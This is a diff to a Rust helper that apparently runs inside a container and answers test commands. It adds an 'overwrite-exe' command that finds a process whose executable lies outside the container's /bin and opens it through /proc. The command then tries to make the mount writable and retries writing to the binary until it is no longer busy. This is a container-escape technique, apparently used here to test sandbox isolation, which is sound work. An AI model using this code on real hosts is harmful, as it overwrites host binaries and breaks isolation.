@@ -2,6 +2,7 @@
 
 use std::fs::{self, File, OpenOptions};
 use std::io::{self, IsTerminal, Read, Write};
+use std::os::fd::AsRawFd;
 use std::os::unix::fs::{FileTypeExt, MetadataExt};
 
 use nix::errno::Errno;
@@ -60,6 +61,7 @@ pub fn answer(verb: &str, rest: &str) -> Option<Value> {
         "make-mount-writable" => errno(sys::make_writable(rest.parse().ok()?, false), |_| json!("ok")),
         "clone-mount-writable" => errno(sys::make_writable(rest.parse().ok()?, true), |_| json!("ok")),
         "mknod" => mknod(&words)?,
+        "overwrite-exe" => overwrite_exe(),
         "spawn" => spawn(&words)?,
         "background" => {
             io(std::process::Command::new("/proc/self/exe").arg("sleep").spawn(), |c| json!(c.id()))
@@ -228,6 +230,29 @@ fn mode(octal: &str) -> fs::Permissions {
 /// `open PATH r|w|rw`: opening alone, with nothing read or written.
 fn open(path: &str, how: &str) -> Value {
     done(OpenOptions::new().read(how.contains('r')).write(how.contains('w')).open(path))
+}
+
+/// Opens the executable of the first process that comes by with one that isn't of the container's /bin, tries to make its mount writable, and to write to it
+/// once nobody executes it any more.
+fn overwrite_exe() -> Value {
+    let foreign = |name: std::ffi::OsString| {
+        let path = format!("/proc/{}/exe", name.to_str()?.parse::<u32>().ok()?);
+        let own = fs::read_link(&path).ok()?.starts_with("/bin");
+        File::open(path).ok().filter(|_| !own)
+    };
+    let names = || fs::read_dir("/proc").into_iter().flatten().flatten().map(|entry| entry.file_name());
+    let open = || names().find_map(foreign);
+    let exe = std::iter::repeat_with(open).flatten().next();
+    let fd = exe.as_ref().map_or(-1, AsRawFd::as_raw_fd);
+    let path = format!("/proc/self/fd/{fd}");
+    let link = fs::read_link(&path).unwrap_or_default();
+    let mounts = [false, true].map(|clone| errno(sys::make_writable(fd, clone), |_| json!("ok")));
+    let open = || OpenOptions::new().append(true).open(&path);
+    let busy = |e: &io::Error| e.raw_os_error() == Some(libc::ETXTBSY);
+    let mut opened = std::iter::repeat_with(open).take(1_000_000).skip_while(|r| r.as_ref().is_err_and(busy));
+    let written =
+        opened.next().map(|opened| done(opened.and_then(|mut file| file.write_all(b"overwritten"))));
+    json!({ "link": link, "mounts": mounts, "write": written.unwrap_or_else(|| json!("ETXTBSY")) })
 }
 
 /// `mknod PATH c|b|p MAJOR MINOR`
